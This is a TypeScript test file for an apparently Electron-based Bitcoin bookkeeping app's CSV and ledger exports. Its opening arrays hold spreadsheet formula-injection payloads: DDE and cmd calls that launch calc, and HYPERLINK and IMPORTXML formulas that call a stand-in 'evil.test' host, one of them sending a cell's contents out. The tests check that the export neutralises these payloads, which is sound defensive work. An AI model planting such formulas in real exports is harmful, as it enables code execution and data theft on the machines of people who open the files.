import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { chainHead } from '../../electron/store/chain.ts'
import { SALES_INCOME, nodeAccount } from '../../electron/domain/accounts.ts'
import { CSV_COLUMNS, textCell } from '../../electron/domain/exports/csv.ts'
import { NODE, START_MS, tempBook } from '../store/fixtures.ts'
import { readCsv, readJsonLines } from './read-back.ts'
import { CUSTOMER, fillSample, post } from './sample-book.ts'
import { write } from './write.ts'

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n']
const PAYLOADS = [
  'HYPERLINK("https://evil.test";"click")',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)',
  '1+1',
  '2,5',
  'a"b',
  'a""b"',
  'line\r\nline',
  'IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
]
/** 70 that a spreadsheet would run, and 30 that only try to break the table. */
const NASTY = [
  ...STARTS.flatMap((start) => PAYLOADS.map((payload) => start + payload)),
  ...PAYLOADS,
  ...PAYLOADS.map((payload) => ` ${payload}`),
  '"',
  '""',
  ',',
  '\u202eevil',
  '\u0000nul',
  "'=already",
  '😀,"😀"',
  'Größe; Maß',
  'x'.repeat(180),
  '\ufeffbom',
]

/** As docs/exports.md says to read a text back. */
function withoutGuards(cell: string): string {
  return cell.replace(/^'(?='*[=+\-@\t\r\n])/, '').replaceAll(/([;\t\r\n]"*)'(?='*[=+\-@])/g, '$1')
}

describe('the CSV', () => {
  test('reliability 6: a hundred nasty notes come back as text, none as a formula', async () => {
    expect(NASTY).toHaveLength(100)
    const book = tempBook()
    const legs = NASTY.map((memo, index) => ({
      debit: nodeAccount(NODE),
      credit: SALES_INCOME,
      amount: 1n,
      currency: 'BTC',
      kind: 'single' as const,
      reference: `${index} ${memo}`.slice(0, 200),
      memo,
    }))
    post(book, 'nasty', legs)
    const rows = readCsv((await write(book)).text)
    expect(rows).toHaveLength(100)
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/)
    }
    const memos = rows.map((row) => row['memo'] ?? '')
    expect(memos.map(withoutGuards)).toEqual(NASTY)
    const lines = readJsonLines((await write(book, { format: 'jsonl' })).text)
    expect(lines.map((line) => line['memo'])).toEqual(NASTY)
  })

  test.each([
    ['=1', "'=1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@a', "'@a"],
    ['\ta', "'\ta"],
    ['\ra', "'\ra"],
    ['a=1', 'a=1'],
    ["'=1", "''=1"],
    ['a;=1', "a;'=1"],
    ['a;"=1"', 'a;"\'=1"'],
    ['a\t+1\n-1\r\n@a', "a\t'+1\n'-1\r\n'@a"],
    ['\t=1', "'\t'=1"],
    [";'=1;;-1", ";''=1;;'-1"],
    ['2-1; 3=3, a@b', '2-1; 3=3, a@b'],
    ['', ''],
  ])('guards %j', (text, cell) => {
    expect(textCell(text)).toBe(cell)
  })

  test('no text begins a formula wherever it is cut, and every text can be read back', () => {
    const part = fc.constantFrom('=', '+', '-', '@', "'", '"', ';', ',', '\t', '\r', '\n', 'a')
    fc.assert(
      fc.property(fc.string({ unit: part, maxLength: 12 }), (text) => {
        const cell = textCell(text)
        for (const cut of cell.split(/[;\t\r\n]"*/)) expect(cut).not.toMatch(/^[=+\-@]/)
        expect(withoutGuards(cell)).toBe(text)
      }),
    )
  })

  test('pain 24: has fiat, rate, tax, tip and offset in columns of their own', async () => {
    const book = tempBook()
    fillSample(book)
    const { text } = await write(book)
    expect(text.split('\r\n')[0]).toBe(CSV_COLUMNS.join(','))
    const [sale, tax, tip, bought] = readCsv(text)
    expect(sale).toMatchObject({
      amount: '9548740',
      unit: 'msat',
      amount_decimal: '0.00009548740',
      fiat_currency: 'EUR',
      fiat_amount: '8.40',
      rate_per_btc: '88004.1',
      rate_sources: 'kraken',
      effective_at: '2025-11-21T05:40:00.000+01:00',
      net: '0.00009548740',
      tax: '',
      tip: '',
      receipt_number: '1',
      operator: 'Zoë',
      till: 'Till 1',
      kind: 'single',
    })
    expect(sale?.['payment_hash']).toHaveLength(64)
    expect(sale?.['entry_hash']).toMatch(/^[0-9a-f]{64}$/)
    expect(tax).toMatchObject({ net: '', tax_rate: '19', tax: '0.00001814260', tip: '' })
    expect(tip).toMatchObject({ net: '', tax: '', tip: '0.00000200001', fiat_amount: '0.18' })
    // Without tax beside it, income says nothing of net.
    expect(bought).toMatchObject({ net: '', tax: '', tax_rate: '', tip: '' })
  })

  test('pain 24: net, tax and tip add up to what was not given back, in CSV and JSON lines', async () => {
    const book = tempBook()
    fillSample(book)
    const [node, income] = [nodeAccount(NODE), SALES_INCOME]
    const liability = (code: string) =>
      ({ code: `liabilities:${code}`, currency: 'BTC', kind: 'liability', limit: 'none' }) as const
    const leg = { currency: 'BTC', kind: 'single' } as const
    const seqOf = (reference: string): bigint => {
      const sql = 'SELECT seq FROM transfers WHERE reference LIKE ?'
      return (book.read((tx) => tx.prepare(sql).get(reference)) as { seq: bigint }).seq
    }
    const [tax, tip] = [liability('tax:19'), liability('tips')]
    const back = (name: string, debit: typeof tax | typeof income, amount: bigint) => {
      const what = { ...leg, debit, credit: node, amount, reference: `back:${name}` }
      return { ...what, correctsSeq: seqOf(`lnd:settle:%:${name}`), reason: 'returned' }
    }
    post(book, 'all_back', [
      back('price', income, 9_548_740n),
      back('tax', tax, 1_814_260n),
      back('tip', tip, 200_001n),
    ])
    const again = { ...leg, debit: node, credit: tax, amount: 14_260n, reference: 'again' }
    post(book, 'again', [{ ...again, correctsSeq: seqOf('back:tax'), reason: 'part of it' }])
    // Tax that is paid on was taken all the same.
    post(book, 'paid_on', [{ ...leg, debit: tax, credit: node, amount: 5n, reference: 'paid_on' }])
    const rows = readCsv((await write(book)).text)
    const lines = readJsonLines((await write(book, { format: 'jsonl' })).text)
    const sumOf = (cells: unknown[]): bigint =>
      cells
        .filter((cell) => typeof cell === 'string')
        .reduce((sum, cell) => sum + BigInt(cell.replace('.', '')), 0n)
    for (const [name, sum] of [
      ['net', 0n],
      ['tax', 14_260n],
      ['tip', 0n],
    ] as const) {
      expect(sumOf(rows.map((row) => row[name])), name).toBe(sum)
      expect(sumOf(lines.map((line) => line[name])), name).toBe(sum)
    }
    const given = rows.find((row) => row['reference'] === 'back:tax')
    expect(given).toMatchObject({ tax: '-0.00001814260', tax_rate: '19', net: '', tip: '' })
    const line = lines.find(({ reference }) => reference === 'back:price')
    expect(line).toMatchObject({ net: '-0.00009548740', tax: null, taxRate: null, tip: null })
  })

  test('what gives a sale back stands under its receipt, with its fiat value', async () => {
    const book = tempBook()
    fillSample(book)
    const tip = readCsv((await write(book)).text)[2]
    const back = {
      debit: { code: 'liabilities:tips', currency: 'BTC', kind: 'liability', limit: 'none' },
      credit: nodeAccount(NODE),
      amount: 200_001n,
      currency: 'BTC',
      kind: 'single',
      reference: 'fix:tip',
      correctsSeq: BigInt(tip?.['entry'] ?? 0),
      reason: 'not a tip',
    } as const
    const later = START_MS + 50 * 86_400_000
    post(book, 'tx_fix', [back], later)
    const fixed = readCsv((await write(book)).text).at(-1)
    const sale = ['receipt_number', 'payment_hash', 'fiat_amount', 'rate_per_btc', 'rate_at']
    for (const name of sale) expect(fixed?.[name], name).toBe(tip?.[name])
    expect(fixed).toMatchObject({ receipt_number: '1', group: 'tx_fix' })
    // The price of the sale's day is not the price of the day it was given back.
    const journal = (await write(book, { format: 'hledger' })).text
    expect(journal.match(/^P .*/gm)).toHaveLength(1)
  })

  test('the kinds, links and time limits of reservations stand in their columns', async () => {
    const book = tempBook()
    fillSample(book)
    const rows = readCsv((await write(book, { customerId: CUSTOMER })).text)
    expect(rows.map((row) => row['kind'])).toEqual([
      'single',
      'pending',
      'post',
      'pending',
      'void',
      'pending',
    ])
    expect(rows[2]?.['resolves_entry']).toBe(rows[1]?.['entry'])
    expect(rows[1]?.['held_until']).toBe('2025-12-12T05:40:00.000+01:00')
    expect(rows.every((row) => row['customer'] === 'Ada Größer')).toBe(true)
    const fixed = readCsv((await write(book, { currency: 'EUR', timeZone: 'Asia/Kolkata' })).text)
    expect(fixed[1]).toMatchObject({
      corrects_entry: fixed[0]?.['entry'],
      reason: 'counted again',
      effective_at: '2025-11-21T10:10:00.000+05:30',
    })
  })

  test('what is booked after the start is not in it', async () => {
    const book = tempBook()
    fillSample(book)
    const before = await write(book)
    const { seq } = book.read(chainHead)
    const credit = { code: 'income:new', currency: 'BTC', kind: 'income', limit: 'none' } as const
    const leg = { currency: 'BTC', kind: 'single' as const, amount: 1n }
    post(book, 'late', [{ ...leg, debit: nodeAccount(NODE), credit, reference: 'late' }])
    const { writeExport } = await import('../../electron/exports/write-export.ts')
    const { order } = await import('./sample-book.ts')
    for (const format of ['csv', 'hledger'] as const) {
      const target = `${before.path}-${format}`
      const work = { bookFile: book.file, target, order: order({ format }), headSeq: seq }
      const again = await writeExport(work, () => {}, new AbortController().signal)
      expect(again.entries).toBe(before.entries)
      if (format === 'csv') expect(again.sha256).toBe(before.sha256)
    }
  })
})
